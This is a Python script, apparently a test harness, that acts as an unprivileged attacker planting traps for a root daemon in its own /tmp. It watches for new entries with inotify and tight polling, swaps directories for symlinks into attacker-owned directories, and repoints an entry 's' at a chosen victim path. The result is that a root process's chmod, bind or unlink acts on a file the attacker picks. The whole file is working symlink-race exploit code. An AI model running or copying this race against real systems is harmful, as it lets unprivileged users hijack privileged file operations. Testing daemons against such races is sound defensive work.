#!/usr/bin/env python3
"""What a target planting traps for a root daemon in its own /tmp does.

Runs as the target's user inside the target's mount namespace, where DIR
(the target's /tmp) is its own. Every new entry in DIR is reported on
stdout ("saw NAME"). A directory is swapped for a relative symlink to a
directory of ours, and an entry "s" that appears in one of ours for an
absolute symlink to VICTIM: a root process that goes on by the same path
(chmod, bind, unlink) then acts on what we chose, in its own root's view.
Runs until killed.
"""
import ctypes
import os
import struct
import sys
import threading
import time

tmp, victim = sys.argv[1], sys.argv[2]
seen = set()


def say(line):
    print(line, flush=True)


def watch_creations(path):
    """Every entry made in path, however briefly it lives (inotify)."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init()
    IN_CREATE, IN_MOVED_TO = 0x100, 0x80
    if fd < 0 or libc.inotify_add_watch(fd, path.encode(), IN_CREATE | IN_MOVED_TO) < 0:
        say("inotify failed: errno %d" % ctypes.get_errno())
        return
    while True:
        buf = os.read(fd, 4096)
        off = 0
        while off + 16 <= len(buf):
            _, mask, _, n = struct.unpack_from("iIII", buf, off)
            name = buf[off + 16:off + 16 + n].rstrip(b"\0").decode(errors="replace")
            off += 16 + n
            if not name.startswith(".atk-"):
                say("saw %s (inotify)" % name)


threading.Thread(target=watch_creations, args=(tmp,), daemon=True).start()


while True:
    for name in os.listdir(tmp):
        if name in seen or name.startswith(".atk-"):
            continue
        seen.add(name)
        say("saw %s" % name)
        path = os.path.join(tmp, name)
        if os.path.isdir(path) and not os.path.islink(path):
            ours = ".atk-" + name
            try:
                os.rename(path, os.path.join(tmp, ours + "-old"))
                os.mkdir(os.path.join(tmp, ours))
                os.chmod(os.path.join(tmp, ours), 0o777)
                os.symlink(ours, path)
                say("swapped %s" % name)
            except OSError as e:
                say("swap of %s failed: %s" % (name, e))
    for name in os.listdir(tmp):
        if not name.startswith(".atk-") or name.endswith("-old"):
            continue
        s = os.path.join(tmp, name, "s")
        if os.path.lexists(s) and not os.path.islink(s):
            try:
                os.rename(s, s + ".old")
                os.symlink(victim, s)
                say("pointed %s/s at the victim" % name)
            except OSError as e:
                say("swap of %s/s failed: %s" % (name, e))
    time.sleep(0.0002)
